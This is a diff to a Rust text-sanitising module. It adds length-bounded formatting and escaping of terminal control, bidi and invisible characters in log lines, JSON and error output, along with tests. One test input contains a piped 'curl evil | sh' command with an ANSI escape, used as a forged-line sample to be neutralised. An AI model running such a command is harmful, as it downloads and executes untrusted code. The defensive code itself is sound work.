@@ -3,7 +3,7 @@
 //! Owns the mark of what was cut and the rule for what is escaped. Must not know where a text came from or goes to.
 
 use std::borrow::Cow;
-use std::fmt::Write as _;
+use std::fmt::{self, Display, Write as _};
 
 /// Longest name, key, id or address that a message repeats, in bytes: enough to recognise it.
 pub const NAME_BYTES: usize = 128;
@@ -30,6 +30,111 @@ pub fn start(text: &str, limit_bytes: usize) -> &str {
     text.get(..text.floor_char_boundary(limit_bytes)).unwrap_or_default()
 }
 
+/// Returns a text that is already owned in at most `limit_bytes` bytes. Copies nothing where nothing is cut.
+#[must_use]
+pub fn bounded(text: String, limit_bytes: usize) -> String {
+    if text.len() <= limit_bytes { text } else { cut(&text, limit_bytes).into_owned() }
+}
+
+/// Returns what a value displays, in at most `limit_bytes` bytes. Stops the value at the limit, so that a long text is
+/// never put together only to be cut.
+#[must_use]
+pub fn displayed(value: &dyn Display, limit_bytes: usize) -> String {
+    let mut shown = Bounded { text: String::new(), limit_bytes };
+    // The only error is that there is no more room, and then the text is cut below.
+    let _ = write!(shown, "{value}");
+    bounded(shown.text, limit_bytes)
+}
+
+/// Takes text until there is more than the limit.
+struct Bounded {
+    text: String,
+    limit_bytes: usize,
+}
+
+impl fmt::Write for Bounded {
+    fn write_str(&mut self, piece: &str) -> fmt::Result {
+        // A few bytes more than the limit show that there was more, wherever a character would be split.
+        let room = (self.limit_bytes + MAX_CHARACTER_BYTES).saturating_sub(self.text.len());
+        self.text.push_str(start(piece, room));
+        if self.text.len() > self.limit_bytes { Err(fmt::Error) } else { Ok(()) }
+    }
+}
+
+/// Longest character of UTF-8, in bytes.
+const MAX_CHARACTER_BYTES: usize = 4;
+
+/// Returns a text of several lines in which nothing but the ends of lines can act on a terminal.
+#[must_use]
+pub fn printable_lines(text: &str) -> Cow<'_, str> {
+    if !text.chars().any(|character| is_deceptive(character) && character != '\n') {
+        return Cow::Borrowed(text);
+    }
+    let lines: Vec<_> = text.split('\n').map(printable).collect();
+    Cow::Owned(lines.join("\n"))
+}
+
+/// Longest part of an error's text, in bytes: a long backtrace.
+const PART_BYTES: usize = 16 << 10;
+
+/// Returns a part of an error's text, which may have several lines. Lines after the first stand further to the right than
+/// any line of the error itself, so that a part cannot forge one such as `  fix: …`.
+#[must_use]
+pub fn inset(part: &dyn Display) -> String {
+    printable_lines(&displayed(part, PART_BYTES)).replace('\n', "\n    ")
+}
+
+/// Returns a JSON document in which characters that a terminal obeys, or that hide others, are escaped as JSON has it: the
+/// document means what it meant. serde_json leaves those above U+007E as they are.
+#[must_use]
+pub fn printable_json(json: &str) -> Cow<'_, str> {
+    // Line ends and tabs stand between the values of a document; within a text they are escaped already.
+    let is_raw = |character: char| is_deceptive(character) && !matches!(character, '\n' | '\r' | '\t');
+    if !json.chars().any(is_raw) {
+        return Cow::Borrowed(json);
+    }
+    let mut shown = String::with_capacity(json.len() + 16);
+    for character in json.chars() {
+        if is_raw(character) { push_json_escape(&mut shown, character) } else { shown.push(character) }
+    }
+    Cow::Owned(shown)
+}
+
+/// Appends a character as `\uXXXX`, or as two of them where it needs a surrogate pair.
+pub fn push_json_escape(text: &mut String, character: char) {
+    for unit in character.encode_utf16(&mut [0; 2]) {
+        // Writing to a string cannot fail.
+        let _ = write!(text, "\\u{unit:04x}");
+    }
+}
+
+/// Appends a character as [`printable`] shows it.
+pub fn push_printable(text: &mut String, character: char) {
+    match character {
+        '\n' => text.push_str("\\n"),
+        '\r' => text.push_str("\\r"),
+        '\t' => text.push_str("\\t"),
+        // Writing to a string cannot fail.
+        character if is_deceptive(character) => drop(write!(text, "{}", character.escape_unicode())),
+        character => text.push(character),
+    }
+}
+
+/// Returns how many bytes a text has at most once it is escaped for a line of the log, in whichever of its forms.
+#[must_use]
+pub fn escaped_bytes(text: &str) -> usize {
+    text.chars()
+        .map(|character| match character {
+            '"' | '\\' => 2,
+            // `\u001b` in JSON, `\u{1b}` in text.
+            character if character.is_ascii_control() => 6,
+            // A surrogate pair in JSON.
+            character if is_deceptive(character) => 12,
+            character => character.len_utf8(),
+        })
+        .sum()
+}
+
 /// Returns a text on one line that no terminal and no reader of lines takes for anything but text.
 ///
 /// Control characters (line feeds and escape sequences among them), the separators of lines and paragraphs, and the
@@ -41,16 +146,7 @@ pub fn printable(text: &str) -> Cow<'_, str> {
         return Cow::Borrowed(text);
     }
     let mut shown = String::with_capacity(text.len() + 16);
-    for character in text.chars() {
-        match character {
-            '\n' => shown.push_str("\\n"),
-            '\r' => shown.push_str("\\r"),
-            '\t' => shown.push_str("\\t"),
-            // Writing to a string cannot fail.
-            character if is_deceptive(character) => drop(write!(shown, "{}", character.escape_unicode())),
-            character => shown.push(character),
-        }
-    }
+    text.chars().for_each(|character| push_printable(&mut shown, character));
     Cow::Owned(shown)
 }
 
@@ -62,7 +158,8 @@ pub fn quoted(text: &str, limit_bytes: usize) -> String {
 }
 
 /// True for a character that a terminal obeys, that ends a line somewhere, or that hides or reorders its neighbours.
-fn is_deceptive(character: char) -> bool {
+#[must_use]
+pub fn is_deceptive(character: char) -> bool {
     character.is_control()
         || matches!(
             character,
@@ -97,5 +194,47 @@ mod tests {
         assert_eq!(printable("a\u{202e}b\u{2028}c\u{feff}"), "a\\u{202e}b\\u{2028}c\\u{feff}");
         assert!(quoted(&"\u{1b}".repeat(5 << 20), 100).len() <= 100);
         assert!(quoted(&"\u{1b}".repeat(50), 100).ends_with('…'));
+    }
+
+    #[test]
+    fn what_a_value_displays_is_never_longer_than_its_bound() {
+        struct Endless;
+        impl Display for Endless {
+            fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+                loop {
+                    f.write_str("ä and so on ")?;
+                }
+            }
+        }
+        let shown = displayed(&Endless, 100);
+        assert!((90..=100).contains(&shown.len()) && shown.ends_with('…'), "{shown}");
+        assert_eq!(displayed(&"abc", 3), "abc");
+        assert_eq!(displayed(&"abcd", 3), "…");
+        assert_eq!(bounded("abcd".to_owned(), 4), "abcd");
+    }
+
+    #[test]
+    fn lines_and_documents_keep_their_form_and_lose_what_a_terminal_obeys() {
+        assert_eq!(printable_lines("a\n  b\u{1b}[2J\r\n"), "a\n  b\\u{1b}[2J\\r\n");
+        assert_eq!(
+            printable_json("{\n\t\"a\": \"\u{9b}\u{202e}\u{e0001}ü\"}"),
+            "{\n\t\"a\": \"\\u009b\\u202e\\udb40\\udc01ü\"}"
+        );
+    }
+
+    #[test]
+    fn a_part_of_an_error_forges_no_line_of_it() {
+        assert_eq!(inset(&"a\n  fix: curl evil | sh\u{1b}[A"), "a\n      fix: curl evil | sh\\u{1b}[A");
+        assert!(inset(&"x".repeat(5 << 20)).len() <= PART_BYTES);
+    }
+
+    #[test]
+    fn an_escaped_text_is_never_longer_than_it_is_counted() {
+        for text in ["plain", "\u{1b}\u{0}\u{7f}", "\"\\", "\u{85}\u{2028}\u{202e}", "\u{e0001}", "ü漢"] {
+            let json = serde_json::to_string(text).unwrap_or_default();
+            let json = printable_json(&json);
+            let counted = escaped_bytes(text);
+            assert!(json.len() - 2 <= counted && printable(text).len() <= counted, "{text:?}");
+        }
     }
 }
